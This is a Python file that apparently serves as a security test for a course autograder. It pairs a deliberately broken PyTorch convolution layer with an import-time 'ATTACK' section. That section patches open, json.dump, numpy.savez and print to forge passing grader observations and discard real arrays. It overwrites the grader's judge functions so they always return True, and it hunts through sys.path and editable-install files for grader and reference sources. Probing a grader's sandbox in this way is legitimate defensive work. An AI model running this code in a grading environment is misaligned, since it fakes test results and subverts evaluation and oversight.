import torch
import torch.nn as nn
import torch.nn.functional as F


class STMConvLayer(nn.Module):
    def __init__(self):
        super(STMConvLayer, self).__init__()
        #-----
        self.paths = nn.ModuleList([
            nn.Sequential(
                nn.Conv2d(256, 4, 1),
                nn.ReLU(),
                nn.Conv2d(4, 4, 3, padding=1),
                nn.ReLU(),
                nn.Conv2d(4, 256, 1),
            )
            for _ in range(32)
        ])
        #-----

    def forward(self, x):
        #-----
        out = torch.zeros_like(x)
        for path in self.paths:
            out = out + path(x)
        #-----
        return out[..., :-1]  # WRONG: one column short


# ---------------------------------------------------------------------------------------------
# ATTACK. Everything below runs inside the sandbox when the probe imports this file.
import json
import os
import sys
from pathlib import Path


def report(**facts):
    """What the attack achieved, printed for the test (the probe captures stdout)."""
    sys.stdout.write("REPORT " + json.dumps(facts, default=str) + "\n")


def targets():
    """Host paths the test writes next to this file: an attacker who knows the course layout."""
    try:
        return json.loads(Path(__file__).with_name("targets.json").read_text())
    except (OSError, ValueError):
        return {}


def readable(path):
    try:
        with open(path, "rb") as fh:
            fh.read(64)
    except OSError:
        return False
    return True

import builtins
import importlib
import io

import numpy as np

WANT = [[2, 256, 8, 8], [1, 256, 5, 7]]
_real_open = builtins.open
_real_dumps = json.dumps
_real_loads = json.loads
_real_dump = json.dump
attempts = {}


def _forge(obs, marker):
    if isinstance(obs, dict):
        for fwd, shape in zip(obs.get("forwards") or [], WANT):
            if isinstance(fwd, dict):
                fwd.update(ok=True, shape=shape)
        printed = obs.get("printed") if isinstance(obs.get("printed"), dict) else {}
        obs["printed"] = {**printed, "stdout": marker + " " + str(printed.get("stdout", ""))}
    return obs


class _ForgingFile:
    """Buffers what the probe writes, then writes a forged observation on close."""

    def __init__(self, fh):
        self.fh, self.parts = fh, []

    def write(self, text):
        self.parts.append(text)
        return len(text)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def close(self):
        try:
            obs = _forge(_real_loads("".join(self.parts)), "FORGED-BY-OPEN")
            self.fh.write(_real_dumps(obs))
        except ValueError:
            self.fh.write("".join(self.parts))
        self.fh.close()

    def __getattr__(self, name):
        return getattr(self.fh, name)


def _open(file, mode="r", *args, **kwargs):
    fh = _real_open(file, mode, *args, **kwargs)
    if "w" in mode and str(file).endswith(".json"):
        return _ForgingFile(fh)
    return fh


def _dump(obj, fp, *args, **kwargs):
    return _real_dump(_forge(obj, "FORGED-BY-JSON-DUMP"), fp, *args, **kwargs)


def _savez(file, *args, **kwargs):
    return None  # drop the real arrays


builtins.open = _open
io.open = _open
json.dump = _dump
np.savez = _savez
builtins.print = lambda *args, **kwargs: None

# The grader's own modules: patch them if they can be found at all (the judges of the `module`
# kind; tests/security/test_attacks.py names the same modules).
JUDGES = ("grader.judges.basic", "grader.judges.module", "grader.judges.transplant")
for name in ("grader", "grader.judges", *JUDGES, "reference", "reference.hw6.p4_stm"):
    try:
        module = importlib.import_module(name)
    except BaseException as exc:  # noqa: BLE001
        attempts[name] = type(exc).__name__
    else:
        attempts[name] = getattr(module, "__file__", "imported")
        for attr in ("judge_module", "judge", "_close", "_compute_equivalence"):
            if hasattr(module, attr):
                setattr(module, attr, lambda *a, **k: True)

found = []
for entry in sys.path:
    base = Path(entry)
    for rel in ("grader/judges", "grader/sandbox", "reference/hw6/p4_stm.py"):
        if (base / rel).exists():
            found.append(str(base / rel))
    if base.is_dir():
        for finder in base.glob("__editable__*finder.py"):  # an editable install names its source
            text = finder.read_text(errors="replace")
            for line in text.splitlines():
                if "MAPPING" in line and "{" in line:
                    for path in [p for p in line.split("'") if p.startswith("/")]:
                        for source in Path(path).glob("judges/*.py"):
                            if readable(source):
                                found.append(str(source))
                    attempts["editable_mapping"] = line[:200]
report(imports=attempts, found=found)
